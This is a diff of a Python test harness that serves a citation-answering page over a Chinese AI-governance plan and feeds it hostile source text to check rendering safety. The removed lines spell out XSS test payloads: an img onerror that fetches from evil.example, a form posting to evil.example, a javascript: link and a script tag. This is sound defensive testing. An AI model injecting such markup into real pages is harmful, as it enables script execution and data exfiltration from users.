@@ -17,38 +17,22 @@ from pathlib import Path
 from types import SimpleNamespace
 
 from browser import free_port, served
+from payloads import PAYLOADS
+from shelf import hostile, law, plan, scanned
 
 from rag.errors import GenerateError
 from rag.labels import article_of
-from rag.records import Answer, Citation, Document, Hit, Provision, Removed, Sentence, Update
+from rag.records import Answer, Citation, Document, Hit, Removed, Sentence, Update
+from rag.records import Path as Place
 from rag.serve import serve
 from rag.settings import Settings
 
-HOSTILE = '<img src=x onerror="fetch(\'http://evil.example/a\')"><form action="http://evil.example/f">' + (
-    "![p](http://evil.example/p) [x](javascript:alert(1)) <script>document.title='owned'</script> $$x$$"
-)
-SIX = "六、推进数据供给。依法有序推动数据流动，打造高质量数据集。加强个人隐私保护。"
-SEVEN = "七、妥善应对能源和环境问题。倡导可持续发展理念，推广低功耗芯片、高效算法等绿色计算技术。开展合作研究。"
-ODD = f"八、{HOSTILE}结束。"
-TEXT = "\n\n".join(["序言。", SIX, SEVEN, ODD])
-
-
-def plan() -> Document:
-    """Three articles, each with its sentences; the third is hostile."""
-    provisions = []
-    for number, article in (("6", SIX), ("7", SEVEN), ("8", ODD)):
-        start = TEXT.index(article)
-        provisions.append(Provision((("article", number),), start, start + len(article)))
-        for at, sentence in enumerate(filter(None, article.split("。") if number != "8" else [article[:-1]]), 1):
-            begin = TEXT.index(sentence, start)
-            path = (("article", number), ("sentence", str(at)))
-            provisions.append(Provision(path, begin, begin + len(sentence) + 1))
-    title, by, date = "人工智能全球治理行动计划", "新华社", "2025-07-26"
-    return Document("plan", title, "zh", "policy", "plan.md", TEXT, tuple(provisions), by, date)
-
 
 def cite(document: Document, n: int, article: str, sentence: str) -> Citation:
-    path = (("article", article), ("sentence", sentence))
+    return cite_at(document, n, (("article", article), ("sentence", sentence)))
+
+
+def cite_at(document: Document, n: int, path: Place) -> Citation:
     found = document.by_path[path]
     quote = document.text_of(found)
     return Citation(
@@ -60,21 +44,22 @@ class PlayedEngine:
     """Answers by what the question contains; writes what happens to it into a log."""
 
     def __init__(self, folder: Path) -> None:
-        self.document, self.folder, self.log = plan(), folder, folder / "log.jsonl"
-        self.settings = Settings(home=folder)
+        self.document, self.law, self.folder, self.log = plan(), law(), folder, folder / "log.jsonl"
+        self.shelf = [self.document, self.law, scanned()] + [hostile()] * (folder / "hostile").exists()
+        self.settings = Settings(home=folder, llms="extractive")
 
     def note(self, **what: object) -> None:
         with self.log.open("a", encoding="utf-8") as file:
             file.write(json.dumps(what, ensure_ascii=False) + "\n")
 
     def documents(self) -> Sequence[Document]:
-        return [self.document]
+        return self.shelf
 
     def ready(self) -> str | None:
         return "正在装载模型…" if (self.folder / "loading").exists() else None
 
-    def ask(self, question: str, history: Sequence[str]) -> Iterator[Update]:
-        self.note(asked=question, history=list(history))
+    def ask(self, question: str, history: Sequence[str], **chosen: object) -> Iterator[Update]:
+        self.note(asked=question, history=list(history), **chosen)
         document = self.document
         hits = tuple(Hit(document, document.by_path[(("article", n),)], 0.9, "dense") for n in ("7", "6"))
         answer = Answer(question, "zh", llm="played")
@@ -98,12 +83,18 @@ class PlayedEngine:
             raise
 
     def sentences(self, question: str, hits: tuple[Hit, ...]) -> Iterator[Update]:
-        hostile = "攻击" in question
-        cited = [cite(self.document, 1, "7", "2")]
-        cited.append(cite(self.document, 2, "8", "1") if hostile else cite(self.document, 2, "6", "3"))
+        cited = [cite(self.document, 1, "7", "2"), cite(self.document, 2, "6", "3")]
         said = [Sentence("推广低功耗芯片、高效算法等绿色计算技术。", (1,), "supported")]
-        said.append(Sentence((HOSTILE if hostile else "加强个人隐私保护") + "。", (2,), "quoted"))
-        removed = (Removed(HOSTILE if hostile else "罚款五万元。", "number"),)
+        said.append(Sentence("加强个人隐私保护。", (2,), "quoted"))
+        removed = (Removed("罚款五万元。", "number"),)
+        if "长法" in question:
+            cited[1] = cite_at(self.law, 2, (("article", "1165"), ("paragraph", "2")))
+        if "攻击" in question:
+            bad = self.shelf[-1]
+            cited = [cite_at(bad, n, (("article", str(n)),)) for n in range(1, len(PAYLOADS) + 1)]
+            said = [Sentence(payload, (n,), "quoted") for n, payload in enumerate(PAYLOADS, 1)]
+            removed = tuple(Removed(payload, "number") for payload in PAYLOADS)
+            hits = tuple(Hit(bad, bad.by_path[(("article", n),)], 0.9, "dense") for n in ("1", "2", "3"))
         yield Update("generate", Answer(question, "zh", tuple(said[:1]), tuple(cited[:1]), retrieved=hits))
         held, end = self.folder / "finish", time.monotonic() + 60
         while "很久" in question and not held.exists() and time.monotonic() < end:
@@ -114,12 +105,14 @@ class PlayedEngine:
 
 
 @contextlib.contextmanager
-def played(folder: Path, loading: bool = False) -> Iterator[SimpleNamespace]:
+def played(folder: Path, loading: bool = False, attacked: bool = False) -> Iterator[SimpleNamespace]:
     """The served page, as `browser.served` gives it, with `log()` (what the engine noted), `loaded()`, `finish()`."""
     port, log = free_port(), folder / "log.jsonl"
     log.touch()
     if loading:
         (folder / "loading").touch()
+    if attacked:
+        (folder / "hostile").touch()
     with served([sys.executable, __file__, str(port), str(folder)], folder / "output.txt") as site:
         site.log = lambda: [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
         site.loaded = (folder / "loading").unlink
